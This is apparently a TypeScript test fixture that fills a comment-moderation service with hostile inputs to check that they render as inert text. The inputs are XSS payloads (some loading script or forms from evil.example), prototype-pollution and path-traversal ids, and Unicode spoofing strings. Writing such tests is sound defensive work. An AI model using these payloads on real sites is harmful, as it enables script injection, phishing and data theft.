import { sql } from 'kysely'
import { recordJudgement } from './comments.js'
import { moderatorToken, type TestStet } from './stet.js'

// Each would, on a page that took it for more than text, open a dialog, ask another server or leave an element behind.
const markup = [
  '<script>alert(1)</script>',
  '"><script src=https://evil.example/x.js></script>',
  '<img src=x onerror=alert(2)>',
  '<img src=https://evil.example/seen.gif>',
  '<svg/onload=alert(3)><animate onbegin=alert(3) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.alert(4)</script>"></iframe>',
  '<a href="javascript:alert(5)" id=hostile>click me</a>',
  '<form action=https://evil.example><button id=hostile>Sign in again</button></form>',
  '<style>@import "https://evil.example/x.css"; * { display: none }</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<math><mi//xlink:href="data:x,<script>alert(6)</script>">',
  '<template><img src=x onerror=alert(7)></template><noscript><p title="</noscript><img src=x onerror=alert(7)>">',
  '<object data=https://evil.example/x><embed src=https://evil.example/y>',
  '<details open ontoggle=alert(8)><summary id=hostile>s</summary></details>',
  '</title></textarea></style></script><img src=x onerror=alert(9)>',
  '<!--><img src=x onerror=alert(10)>-->',
]
const breakingOut = [
  '" autofocus onfocus="alert(11)" x="',
  "' onmouseover='alert(12)' x='",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one of theirs.
  '`onclick=alert(13) ${alert(13)} {{constructor.constructor("alert(13)")()}}',
  '\\"};alert(14);//',
  '</bdi></mark></article></main><h1 id=hostile>Stet does not answer</h1>',
  '&lt;script&gt;alert(15)&lt;/script&gt; &#60;img src=x onerror=alert(15)&#62;',
  '\\u003cscript\\u003ealert(16)\\u003c/script\\u003e %3Cscript%3Ealert(16)%3C/script%3E',
]
// As names and ids these meet addresses, keys of objects, and lines of the log.
export const hostileIds = [
  '__proto__',
  'constructor',
  'javascript:alert(17)',
  '//evil.example/path',
  '../../admin',
  '..%2F..%2Fadmin%00',
  '?status=published&q=#fragment',
  '%',
  ' ',
  'null',
]
const looks = [
  'Ann\u202E\u2066 dehsilbup \u2069\u202C (moderator)',
  'Z̷̨͎a̸̛͔l̵̰͠g̶̻̈́ơ̴͙ 𝕬𝖓𝖓 A\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301',
  `${'W'.repeat(180)}`,
  '\u200B\u200B\u00AD\uFEFF',
  '😀👩‍👩‍👧‍👦🏳️‍🌈\u{E0041}\uFFFD',
  'line\nfeed\r\ntab\t\u2028and\u2029others\u0007',
]

/** Bodies, names, titles, ids and reasons that a page must show as what they are: text. */
export const hostile = [...markup, ...breakingOut, ...hostileIds, ...looks]

/** Addresses that an article may have by the schema; the first are such as only another hand could have stored. */
export const hostileUrls = [
  'javascript:alert(18)',
  'data:text/html,<script>alert(19)</script>',
  ' javascript:alert(20)',
  'https://evil.example/" onmouseover="alert(21)',
  'https://evil.example/<script>alert(22)</script>',
  "https://courier.example@evil.example/'><img src=x onerror=alert(23)>",
]

/** Addresses that decisions are to be reported to, as an admin may be talked into; what each is called is hostile too. */
export const hostileEndpoints = [
  'https://evil.example/"><script>alert(24)</script>',
  "https://evil.example/' onmouseover='alert(25)",
  'https://evil.example/?next=javascript:alert(26)#<img src=x onerror=alert(26)>',
  'https://xn--80ak6aa92e.example/</bdi></li></ul><h1 id=hostile>Stet does not answer</h1>',
  `https://${'w'.repeat(60)}.example/${'%E2%80%AE'.repeat(200)}`,
]

/** As an id, a name or a section may be long. */
export const shortened = (text: string) => [...text].slice(0, 200).join('')

function commentOf(text: string, index: number) {
  const article = {
    id: shortened(text),
    title: text,
    section: shortened(text),
    url: 'https://courier.example/',
  }
  const author = { id: shortened(text), name: shortened(text) }
  const parent = index > 0 ? { parentId: idOf(index - 1) } : {}
  return { id: idOf(index), body: `${text} (${index})`, author, article, ...parent }
}

const idOf = (index: number) => shortened(`${hostile[index]} ${index}`)

async function hold(stet: TestStet, index: number): Promise<void> {
  const text = hostile[index] ?? ''
  const end = text.length
  // Also such spans as no worker writes: in the middle of a character, the wrong way round, outside.
  const spans = [
    { start: 1, end: Math.ceil(end / 2) },
    { start: end, end: 1 },
    { start: end, end: end + 1_000 },
  ]
  const reason = { verdict: 'hold' as const, shadow: false }
  await recordJudgement(stet, idOf(index), {
    verdict: 'hold',
    reasons: [
      { ...reason, rule: text, message: text, spans },
      { ...reason, rule: 'x', message: 'x', spans: [{ start: 0, end: end + 2 }] },
    ],
    scores: null,
    model: text,
    rules: text,
    missing: [text],
    urgency: { priority: 0 },
    receipt: { signals: {}, timings: {}, note: null, circumstances: null },
  })
}

async function ask(stet: TestStet, key: string | undefined, method: string, path: string, body: unknown) {
  const { status } = await stet.call(method, path, { body, ...(key ? { key } : {}) })
  if (status >= 300) throw new Error(`${method} ${path}: ${status}`)
}

/**
 * Fills a desk with the corpus in everything that somebody from outside can write: bodies, earlier bodies, names, ids,
 * titles, sections, addresses; and in what colleagues write: notes, reasons, an article's mode, endpoints.
 */
export async function loadHostile(stet: TestStet): Promise<void> {
  const endpoints = hostileEndpoints.map((url, index) => ({
    site: 'default',
    url,
    description: shortened(hostile[index] ?? ''),
    secret: `whsec_${'A'.repeat(32)}`,
  }))
  await stet.context.db.insertInto('endpoint').values(endpoints).execute()
  const comments = hostile.map(commentOf)
  await ask(stet, undefined, 'POST', '/v1/comments/batch', comments)
  const edited = comments.map((comment) => ({ ...comment, body: `${comment.body} ${comment.body}` }))
  await ask(stet, undefined, 'POST', '/v1/comments/batch', edited)
  for (const [index, text] of hostile.entries()) {
    await hold(stet, index)
    const id = encodeURIComponent(idOf(index))
    await ask(stet, moderatorToken, 'POST', `/v1/comments/${id}/notes`, { text: `${text}.` })
    const mode = { mode: 'watch', reason: `${text}.`, until: null }
    await ask(stet, moderatorToken, 'PUT', `/v1/articles/${encodeURIComponent(shortened(text))}/mode`, mode)
    const decision = { verdict: 'reject', reason: shortened(`${text}.`), note: text, onRevision: 2 }
    if (index % 4 === 0) await ask(stet, moderatorToken, 'POST', `/v1/comments/${id}/decisions`, decision)
  }
  for (const [index, url] of hostileUrls.entries())
    await sql`update comment set article_url = ${url} where id = ${idOf(index)}`.execute(stet.context.db)
}
